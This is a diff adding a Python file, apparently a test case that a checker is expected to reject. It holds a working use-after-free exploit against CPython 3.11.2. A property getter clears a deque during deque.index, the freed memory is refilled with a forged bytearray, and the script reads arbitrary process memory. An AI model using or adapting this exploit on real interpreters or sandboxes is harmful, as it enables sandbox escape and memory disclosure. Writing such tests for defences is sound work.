@@ -1,0 +1,63 @@
+# expect: reject memory
+# line: 16
+# why: round 71: @Holder.tally.setter over def size builds a property whose getter is tally's under the name size (the decorator read was taken for a property chain): raw memory under 3.11.2
+import collections
+
+keep = []
+got = []
+dq = collections.deque()
+state = {"n": 0, "payload": b"", "fake": 0}
+N = 25
+
+
+class Holder:
+    @property
+    def tally(self):
+        state["n"] += 1
+        if state["n"] == 1:
+            dq.clear()
+            keep.append(bytearray(state["payload"]))
+        elif id(self) == state["fake"]:
+            got.append(self)
+            return 2
+        return 1
+
+
+
+
+class P:
+    """a pure __eq__: compares an attribute"""
+    @Holder.tally.setter
+    def size(self, v):
+        pass
+
+    def __eq__(self, other):
+        return isinstance(other, P) and self.size == other.size
+
+    def __hash__(self):
+        return 1
+
+
+def w8(v):
+    return v.to_bytes(8, "little")
+
+
+pad = [tuple([i] * N) for i in range(200)]
+dq.append(tuple([P(), 0] + [0] * (N - 2)))
+pad2 = [tuple([i] * N) for i in range(200)]
+fake = id(dq[0]) + 48
+state["fake"] = fake
+words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(P), 0, 0]
+raw = b"".join([w8(x) for x in words])
+state["payload"] = raw + bytes(232 - len(raw))
+try:
+    dq.index(tuple([P(), P()] + [0] * (N - 2)))
+except (RuntimeError, ValueError) as e:
+    print(type(e).__name__, e)
+print("getter runs:", state["n"], len(keep), len(got))
+B = keep[0]
+B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
+mem = got[0]
+print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
+probe = "freed-memory-probe"
+print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
